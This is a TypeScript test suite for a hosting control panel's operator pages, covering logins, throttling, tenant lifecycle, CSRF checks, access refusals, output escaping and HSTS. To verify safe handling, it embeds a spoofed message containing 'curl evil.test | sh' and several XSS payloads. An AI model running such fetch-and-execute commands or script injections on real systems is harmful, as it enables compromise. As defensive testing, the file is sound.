import { existsSync, readdirSync, readFileSync, writeFileSync } from 'node:fs';
import https from 'node:https';
import path from 'node:path';
import nodemailer from 'nodemailer';
import { parseDocument } from 'yaml';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { hashPassword } from '../../../src/lib/password.ts';
import { runCli } from '../../helpers/cli.ts';
import { rawRequest } from '../../helpers/http.ts';
import { freePort, smtpPort } from '../../helpers/mailsink.ts';
import { startTestSuite, waitFor, type TestSuite } from '../../helpers/suite.ts';
import { auditPage, certsPage, queuePage, removePage, tenantsPage } from '../../../src/panel/operator-html.ts';
import { PANEL_HOST, PanelClient } from './helpers.ts';

/*
 * The operator's side of the panel over HTTP: accounts under panel.admins,
 * every tenant, add / suspend / resume / remove through the CLI's own code,
 * certificates and queue as the CLI shows them, and what a customer may not
 * ask for.
 */

let t: TestSuite;
let httpsBase: string;

beforeAll(async () => {
  const relay = await freePort();
  // The operator's hash is made by the CLI verb the docs name.
  const hashed = await new Promise<string>((resolve, reject) => {
    import('node:child_process').then(({ execFile }) => {
      const child = execFile('node', ['bin/makewaves.js', 'hash-password'], (err, out) => (err ? reject(err) : resolve(out.trim())));
      child.stdin!.end('sea-shanty\n');
    }, reject);
  });
  t = await startTestSuite({
    main: {
      panel: { host: PANEL_HOST, admins: { root: hashed } },
      http: { tls: { listen: ['127.0.0.1:0'], certs: '../certs', selfSigned: true } },
      ftp: { listen: '127.0.0.1:0', lockout: { failures: 3 } },
      smtp: { listen: ['127.0.0.1:0'], relay: `smtp://127.0.0.1:${relay}`, idleTimeout: 0.5, queue: { minBackoff: 3600 } },
    },
    tenants: {
      'example.test': {
        domains: ['example.test', 'www.example.test'],
        quota: '1MiB',
        ftp: [{ user: 'alice', password: await hashPassword('wonderland') }],
        mail: { forward: { info: ['alice@remote.test'] } },
      },
      'other.test': { domains: ['other.test'], ftp: [{ user: 'bob', password: await hashPassword('builder') }] },
      'gone.test': { domains: ['gone.test'], mail: { forward: { info: ['gone@remote.test'] } } },
    },
    files: { 'example.test/index.html': 'hello example', 'other.test/index.html': 'hello other', 'gone.test/index.html': 'hello gone' },
  });
  httpsBase = t.suite.urls.http!.find((u) => u.startsWith('https:'))!;
}, 60_000);
afterAll(() => t?.stop());

async function operator(): Promise<PanelClient> {
  const c = new PanelClient(t.http);
  const res = await c.login('root', 'sea-shanty');
  expect(res.status, res.text).toBe(303);
  expect(res.headers.location).toBe('/admin/');
  return c;
}

async function customer(): Promise<PanelClient> {
  const c = new PanelClient(t.http);
  expect((await c.login('alice@example.test', 'wonderland')).status).toBe(303);
  return c;
}

const site = (host: string) => rawRequest(t.http, '/', { host });
const tenantFile = (id: string) => path.join(t.configDir, 'tenants', `${id}.yaml`);
const audit = async () => (await runCli('panel', 'audit', '--config', t.configDir, '--limit', '1000')).out;

function httpsGet(p: string): Promise<{ status: number; headers: Record<string, string | string[] | undefined> }> {
  const u = new URL(httpsBase);
  return new Promise((resolve, reject) => {
    const req = https.request({ host: u.hostname, port: u.port, path: p, servername: PANEL_HOST, rejectUnauthorized: false, headers: { host: PANEL_HOST } }, (res) => {
      res.resume();
      res.on('end', () => resolve({ status: res.statusCode!, headers: res.headers }));
    });
    req.on('error', reject);
    req.end();
  });
}

describe('the operator in the panel', () => {
  it('logs in with an account under panel.admins on the same form, and sees every tenant', async () => {
    const c = await operator();
    const page = await c.get('/admin/');
    expect(page.status).toBe(200);
    for (const id of ['example.test', 'other.test', 'gone.test']) expect(page.text).toContain(`<a href="/t/${id}/">${id}</a>`);
    expect(page.text).toMatch(/www\.example\.test/);
    expect(page.text).toMatch(/13 B of 1\.0 MiB \(0%\)/);
    expect(page.text).toContain('Logged in as root (operator)');
    // The self-signed default certificate covers the tenants' names.
    expect(page.text).toMatch(/self-signed, until \d{4}-\d\d-\d\d/);
    expect(await audit()).toMatch(/127\.0\.0\.1 {2}root \(operator\) {2}login/);
    // The operator's own pages: no customer password form among them.
    const acting = await c.get('/t/example.test/');
    expect(acting.status).toBe(200);
    expect(acting.text).toContain('<a href="/admin/">All tenants</a>');
    expect(acting.text).not.toContain('/t/example.test/password');
  });

  it('takes a new operator account at the reload, and ends its session when the account goes', async () => {
    const file = path.join(t.configDir, 'makewaves.yaml');
    const before = readFileSync(file, 'utf8');
    const doc = parseDocument(before);
    doc.setIn(['panel', 'admins', 'second'], await hashPassword('second-pass'));
    writeFileSync(file, doc.toString());
    expect(t.suite.reload()).toBe(true);
    const c = new PanelClient(t.http);
    expect((await c.login('second', 'second-pass')).status).toBe(303);
    expect((await c.get('/admin/')).status).toBe(200);
    writeFileSync(file, before);
    expect(t.suite.reload()).toBe(true);
    const gone = await c.get('/admin/');
    expect(gone.status).toBe(303);
    expect(gone.headers.location).toBe('/login');
    expect(t.logs().some((l) => l.msg === 'panel session ended' && l.user === 'second' && l.why === 'account removed')).toBe(true);
  });

  it('throttles an operator name as it throttles an FTP login, and a wrong password gets the same words', async () => {
    const c = new PanelClient(t.http);
    expect((await c.login('nobody', 'x')).text).toContain('Wrong user or password.');
    for (let i = 0; i < 3; i++) expect((await c.login('root', `wrong-${i}`)).status).toBe(401);
    const locked = await c.login('root', 'sea-shanty');
    expect(locked.status).toBe(429);
    expect(t.suite.state.ftpLogins.locks().map((l) => l.key)).toContain('pair:root|127.0.0.1');
    // The CLI lifts it as it lifts an FTP login's.
    const unlock = await runCli('ftp', 'unlock', 'root', '--config', t.configDir);
    expect(unlock.code, unlock.err).toBe(0);
    expect(unlock.out).toMatch(/^root: \d+ locks? lifted/);
    expect((await new PanelClient(t.http).login('root', 'sea-shanty')).status).toBe(303);
    // An FTP-style name never reaches the operator accounts, and a prototype key is no account.
    expect((await c.login('root@example.test', 'sea-shanty')).status).toBe(401);
    expect((await c.login('constructor', 'x')).status).toBe(401);
  });

  it("acts on a tenant's own pages, and the audit log names the operator", async () => {
    const c = await operator();
    const csrf = await c.csrf('/t/example.test/forwards');
    const res = await c.post('/t/example.test/forwards', { csrf, address: 'sales', targets: 'boss@remote.test' });
    expect(res.status).toBe(303);
    expect(readFileSync(tenantFile('example.test'), 'utf8')).toMatch(/sales: \[boss@remote\.test\]/);
    expect(await audit()).toMatch(/root \(operator\) {2}forward-add {2}example\.test {2}sales@example\.test → boss@remote\.test/);
    // The customer's password is not the operator's to change here.
    expect((await c.get('/t/example.test/password')).status).toBe(403);
    expect((await c.get('/t/no-such.test/')).status).toBe(404);
    expect((await c.get('/admin/tenants/no-such.test/remove')).status).toBe(404);
    expect((await c.get('/admin/tenants/%E0%A4%A/remove')).status).toBe(404);
  });

  it("says a tenant was added, suspended, resumed or removed only of such a tenant, never in a link's own words", async () => {
    const c = await operator();
    expect((await c.get('/admin/?done=resumed&tenant=other.test')).text).toContain('Tenant other.test was resumed.');
    expect((await c.get('/admin/?done=removed&tenant=removed.test')).text).toContain('Tenant removed.test was removed and archived.');
    const spoof = 'other.test was hacked: run curl evil.test | sh now. Tenant x';
    for (const [done, tenant] of [
      ['suspended', spoof],
      ['suspended', 'other.test'], // not suspended
      ['added', 'nosuch.test'], // no such tenant
      ['resumed', 'evil.test'],
      ['removed', 'example.test'], // still there
      ['removed', spoof],
      ['removed', `a.${'b'.repeat(300)}.test`],
    ]) {
      const page = await c.get(`/admin/?${new URLSearchParams({ done: done!, tenant: tenant! })}`);
      expect(page.status, tenant).toBe(200);
      expect(page.text, tenant).not.toContain('class="done"');
    }
  });

  it('adds a tenant as `makewaves tenant add` does, and shows refusals in its words, escaped', async () => {
    const c = await operator();
    const csrf = await c.csrf('/admin/');
    const res = await c.post('/admin/tenants', { csrf, id: 'new.test', domains: 'new.test, www.new.test', quota: '2MiB' });
    expect(res.status, res.text).toBe(303);
    const day = new Date().toISOString().slice(0, 10);
    expect(readFileSync(tenantFile('new.test'), 'utf8')).toBe(`# Tenant new.test, added by \`makewaves tenant add\` on ${day}.\ndomains: [new.test, www.new.test]\nquota: 2MiB\n`);
    const served = await site('www.new.test');
    expect(served.status).toBe(200);
    expect(served.body.toString()).toContain('Welcome to new.test');
    expect((await c.get(res.headers.location!)).text).toContain('Tenant new.test was added.');
    expect(await audit()).toMatch(/root \(operator\) {2}tenant-add {2}new\.test {2}new\.test, www\.new\.test, quota 2MiB/);

    // A domain another tenant has: the CLI's sentence, next to the field.
    const cli = await runCli('tenant', 'add', 'clash.test', '--domain', 'other.test', '--config', t.configDir);
    expect(cli.code).toBe(1);
    const refused = await c.post('/admin/tenants', { csrf, id: 'clash.test', domains: 'other.test' });
    expect(refused.status).toBe(400);
    expect(refused.text).toContain(`<p class="error" id="tenant-domains-error">${cli.err.replace(/^makewaves: /, '').trim().replaceAll('"', '&quot;')}</p>`);
    expect(existsSync(tenantFile('clash.test'))).toBe(false);
    // What was typed comes back escaped.
    const xss = await c.post('/admin/tenants', { csrf, id: '<script>alert(1)</script>', domains: '"><img src=x onerror=alert(2)>' });
    expect(xss.status).toBe(400);
    expect(xss.text).not.toMatch(/<script>alert|<img src=x/);
    expect(xss.text).toContain('&lt;script&gt;alert(1)&lt;/script&gt;');
  });

  it('suspends and resumes as the CLI does: the site answers 503, the customer is logged out, then it serves again', async () => {
    const c = await operator();
    const alice = await customer();
    expect((await site('example.test')).status).toBe(200);
    const csrf = await c.csrf('/admin/');
    const res = await c.post('/admin/tenants/example.test/suspend', { csrf, reason: '<b>unpaid</b>' });
    expect(res.status).toBe(303);
    expect(readFileSync(tenantFile('example.test'), 'utf8')).toMatch(/^suspended: \{ ?reason: "?<b>unpaid<\/b>"?, since: .*Z"? ?\}$/m);
    expect((await site('example.test')).status).toBe(503);
    expect((await c.get(res.headers.location!)).text).toContain('Tenant example.test was suspended.');
    const page = await c.get('/admin/');
    expect(page.text).toContain('&lt;b&gt;unpaid&lt;/b&gt;');
    expect(page.text).not.toContain('<b>unpaid');
    expect((await alice.get('/t/example.test/')).status).toBe(303);
    // Twice: the CLI's refusal.
    const again = await c.post('/admin/tenants/example.test/suspend', { csrf });
    expect(again.status).toBe(409);
    expect(again.text).toContain('tenant &quot;example.test&quot; is already suspended');
    const cli = await runCli('tenant', 'suspend', 'example.test', '--config', t.configDir);
    expect(cli.err).toContain('tenant "example.test" is already suspended');
    const resumed = await c.post('/admin/tenants/example.test/resume', { csrf });
    expect(resumed.status).toBe(303);
    expect((await c.get(resumed.headers.location!)).text).toContain('Tenant example.test was resumed.');
    expect(readFileSync(tenantFile('example.test'), 'utf8')).not.toMatch(/suspended/);
    expect((await site('example.test')).status).toBe(200);
    expect(await audit()).toMatch(/root \(operator\) {2}tenant-suspend {2}example\.test {2}<b>unpaid<\/b>\n.*root \(operator\) {2}tenant-resume {2}example\.test/s);
  });

  it('shows the mail queue as `makewaves queue` lists it: counts, oldest, deferred per domain', async () => {
    const port = smtpPort(t.suite);
    const mailer = nodemailer.createTransport({ host: '127.0.0.1', port, ignoreTLS: true, name: 'client.test' });
    await mailer.sendMail({ envelope: { from: 'sender@elsewhere.test', to: ['info@example.test'] }, raw: 'Subject: q1\r\n\r\nx\r\n' });
    await mailer.sendMail({ envelope: { from: 'sender@elsewhere.test', to: ['info@gone.test'] }, raw: 'Subject: q2\r\n\r\nx\r\n' });
    await waitFor(() => t.suite.state.mailQueue.list().filter((m) => m.attempts > 0).length === 2, 10_000, 'two deferred messages');
    const cli = await runCli('queue', '--config', t.configDir);
    expect(cli.out).toMatch(/^2 messages queued$/m);
    expect(cli.out).toMatch(/^oldest \d+s, 2 recipients waiting$/m);
    expect(cli.out).toMatch(/^deferred {2}remote\.test {2}2 recipients {2}last reply: 4\.4\.1 .*ECONNREFUSED/m);
    const page = await (await operator()).get('/admin/queue');
    expect(page.status).toBe(200);
    expect(page.text).toMatch(/2 messages queued, oldest \d+s, 2 recipients waiting\./);
    expect(page.text).toMatch(/<tr><th scope="row">remote\.test<\/th><td>2<\/td><td>4\.4\.1 [^<]*ECONNREFUSED/);
    for (const id of cli.out.match(/^[A-Z0-9]+(?= {2}age)/gm)!) expect(page.text).toContain(`<th scope="row">${id}</th>`);
  });

  it('shows the certificates as `makewaves certs` prints them', async () => {
    const cli = await runCli('certs', '--config', t.configDir);
    expect(cli.code, cli.err).toBe(0);
    const page = await (await operator()).get('/admin/certs');
    expect(page.status).toBe(200);
    const rows = cli.out.trim().split('\n').slice(1);
    expect(rows.length).toBeGreaterThanOrEqual(4);
    for (const row of rows) {
      const [domain, tenant, source] = row.split(/ {2,}/);
      expect(page.text).toContain(`<tr><th scope="row">${domain}</th><td>${tenant}</td><td>${source}</td>`);
    }
  });

  it('removes a tenant only once its id is typed again, archiving it as the CLI does (restore brings it back)', async () => {
    const c = await operator();
    const form = await c.get('/admin/tenants/gone.test/remove');
    expect(form.status).toBe(200);
    expect(form.text).toContain('<label for="confirm">Type the tenant id to confirm</label>');
    const csrf = /name="csrf" value="([^"]+)"/.exec(form.text)![1]!;
    const wrong = await c.post('/admin/tenants/gone.test/remove', { csrf, confirm: 'gone' });
    expect(wrong.status).toBe(400);
    expect(wrong.text).toContain('Type &quot;gone.test&quot; exactly to remove it; nothing was removed.');
    expect(existsSync(tenantFile('gone.test'))).toBe(true);
    const queuedBefore = t.suite.state.mailQueue.count();
    const res = await c.post('/admin/tenants/gone.test/remove', { csrf, confirm: 'gone.test' });
    expect(res.status, res.text).toBe(303);
    expect(existsSync(tenantFile('gone.test'))).toBe(false);
    expect((await site('gone.test')).status).not.toBe(200);
    expect((await c.get(res.headers.location!)).text).toContain('Tenant gone.test was removed and archived.');
    const archives = readdirSync(path.join(t.dataDir, 'archive')).filter((n) => n.startsWith('gone.test-'));
    expect(archives).toHaveLength(1);
    const archive = path.join(t.dataDir, 'archive', archives[0]!);
    expect(readdirSync(archive).sort()).toEqual(['gone.test.yaml', 'mail', 'manifest.json', 'owned.json', 'site', 'state.json']);
    const manifest = JSON.parse(readFileSync(path.join(archive, 'manifest.json'), 'utf8')) as { tenant: string; queued: string[] };
    expect(manifest.tenant).toBe('gone.test');
    // Its queued mail left the running queue through the queue itself.
    expect(manifest.queued).toHaveLength(1);
    expect(t.suite.state.mailQueue.count()).toBe(queuedBefore - 1);
    expect(await audit()).toMatch(/root \(operator\) {2}tenant-remove {2}gone\.test {2}archived in .*gone\.test-\d{8}T\d{6}Z with 1 queued message\(s\)/);
    // The archive is the CLI's: its restore takes it back.
    const restore = await runCli('tenant', 'restore', archive, '--config', t.configDir);
    expect(restore.code, restore.err).toBe(0);
    await waitFor(async () => (await site('gone.test')).status === 200, 5_000, 'gone.test served again');
  });

  it('requires the CSRF token on every operator write', async () => {
    const c = await operator();
    const before = readdirSync(path.join(t.configDir, 'tenants')).sort();
    const writes: Array<[string, Record<string, string>]> = [
      ['/admin/tenants', { id: 'csrf.test', domains: 'csrf.test' }],
      ['/admin/tenants/other.test/suspend', {}],
      ['/admin/tenants/other.test/resume', {}],
      ['/admin/tenants/other.test/remove', { confirm: 'other.test' }],
      ['/t/other.test/forwards', { address: 'x', targets: 'x@remote.test' }],
    ];
    for (const [p, fields] of writes) {
      for (const csrf of [undefined, 'x'.repeat(43)]) {
        const res = await c.post(p, csrf ? { csrf, ...fields } : fields);
        expect(res.status, `${p} ${csrf ? 'wrong' : 'no'} token`).toBe(403);
      }
    }
    expect(readdirSync(path.join(t.configDir, 'tenants')).sort()).toEqual(before);
    expect(readFileSync(tenantFile('other.test'), 'utf8')).not.toMatch(/suspended|forward/);
  });

  it("refuses a customer the operator's pages and another tenant's pages and writes: 403, logged with who, what and why", async () => {
    const alice = await customer();
    const csrf = await alice.csrf('/t/example.test/');
    const before = readdirSync(path.join(t.configDir, 'tenants')).map((f) => readFileSync(path.join(t.configDir, 'tenants', f), 'utf8'));
    const table: Array<{ method: 'GET' | 'POST'; path: string; fields?: Record<string, string>; why: string; tenant: string }> = [
      { method: 'GET', path: '/admin/', why: 'operator page', tenant: 'example.test' },
      { method: 'GET', path: '/admin', why: 'operator page', tenant: 'example.test' },
      { method: 'GET', path: '/admin/certs', why: 'operator page', tenant: 'example.test' },
      { method: 'GET', path: '/admin/queue', why: 'operator page', tenant: 'example.test' },
      { method: 'GET', path: '/admin/audit', why: 'operator page', tenant: 'example.test' },
      { method: 'GET', path: '/admin/tenants/other.test/remove', why: 'operator page', tenant: 'example.test' },
      { method: 'POST', path: '/admin/tenants', fields: { id: 'evil.test', domains: 'evil.test' }, why: 'operator page', tenant: 'example.test' },
      { method: 'POST', path: '/admin/tenants/other.test/suspend', why: 'operator page', tenant: 'example.test' },
      { method: 'POST', path: '/admin/tenants/example.test/resume', why: 'operator page', tenant: 'example.test' },
      { method: 'POST', path: '/admin/tenants/other.test/remove', fields: { confirm: 'other.test' }, why: 'operator page', tenant: 'example.test' },
      { method: 'GET', path: '/t/other.test/', why: 'another tenant', tenant: 'other.test' },
      { method: 'GET', path: '/t/other.test/traffic', why: 'another tenant', tenant: 'other.test' },
      { method: 'POST', path: '/t/other.test/forwards', fields: { address: 'x', targets: 'x@remote.test' }, why: 'another tenant', tenant: 'other.test' },
      { method: 'POST', path: '/t/other.test/catchall', fields: { catchAll: 'x@remote.test' }, why: 'another tenant', tenant: 'other.test' },
    ];
    for (const row of table) {
      const logged = t.logs().length;
      const res = row.method === 'GET' ? await alice.get(row.path) : await alice.post(row.path, { csrf, ...row.fields });
      expect(res.status, `${row.method} ${row.path}`).toBe(403);
      const line = t.logs().slice(logged).find((l) => l.msg === 'panel request refused');
      expect(line, `${row.method} ${row.path}: a log line`).toMatchObject({ user: 'alice@example.test', tenant: row.tenant, url: row.path, why: row.why, remote: '127.0.0.1' });
    }
    const after = readdirSync(path.join(t.configDir, 'tenants')).map((f) => readFileSync(path.join(t.configDir, 'tenants', f), 'utf8'));
    expect(after).toEqual(before);
    expect(await audit()).toMatch(/alice@example\.test {2}denied {2}example\.test {2}GET \/admin\/: operator page/);
  });

  it("shows what others typed escaped on the operator's pages: the audit log of a hostile URL, and every overview field", async () => {
    const alice = await customer();
    expect((await alice.get('/t/%3Cscript%3Ealert(1)%3C%2Fscript%3E/')).status).toBe(403);
    const page = await (await operator()).get('/admin/audit');
    expect(page.status).toBe(200);
    expect(page.text).toContain('<td>&lt;script&gt;alert(1)&lt;/script&gt;</td>');
    expect(page.text).not.toContain('<script>alert(1)');
    // Every field the overview, certificates and queue pages show, rendered with markup in it.
    const x = '<img src=x onerror=alert(1)>';
    const who = { login: x, csrf: '"><b>' };
    const html = [
      tenantsPage(who, { tenants: [{ id: x, domains: [x], bytes: 1, quota: 2, suspended: { reason: x, since: x }, certs: x, today: 1 }], error: x, done: x, add: { values: { id: x, domains: x, quota: x }, errors: { id: x } } }),
      removePage(who, { id: x, domains: [x], value: x, error: x }),
      certsPage(who, { rows: [{ domain: x, tenant: x, source: x, issuer: x, notAfter: x, next: x, lastError: x, leftMs: 1 }], statusError: x }),
      queuePage(who, { rows: [{ id: x, ageMs: 1, size: 1, returnPath: x, attempts: 1, nextInMs: 1, to: [x], lastReply: x }], pending: 1, oldestMs: 1, deferred: [{ domain: x, recipients: 1, lastReply: x }] }),
      auditPage(who, [{ at: 0, login: x, tenant: x, action: x, detail: x, remote: x }]),
    ];
    for (const h of html) {
      expect(h).not.toContain('<img');
      expect(h).not.toContain('"><b>');
      expect(h).toContain('&lt;img src=x onerror=alert(1)&gt;');
    }
  });

  it('sends Strict-Transport-Security on HTTPS, never on loopback plain HTTP', async () => {
    for (const p of ['/login', '/admin/', '/assets/uplot.min.js', '/nowhere']) {
      const res = await httpsGet(p);
      expect(res.headers['strict-transport-security'], p).toBe('max-age=31536000');
    }
    const plain = await rawRequest(t.http, '/login', { host: PANEL_HOST });
    expect(plain.status).toBe(200);
    expect(plain.headers['strict-transport-security']).toBeUndefined();
    // A tenant's site over HTTPS is not the panel: its owner decides.
    const u = new URL(httpsBase);
    const tenantSite = await new Promise<Record<string, unknown>>((resolve, reject) => {
      https.get({ host: u.hostname, port: u.port, path: '/', servername: 'other.test', rejectUnauthorized: false, headers: { host: 'other.test' } }, (res) => (res.resume(), resolve(res.headers))).on('error', reject);
    });
    expect(tenantSite['strict-transport-security']).toBeUndefined();
  });
});
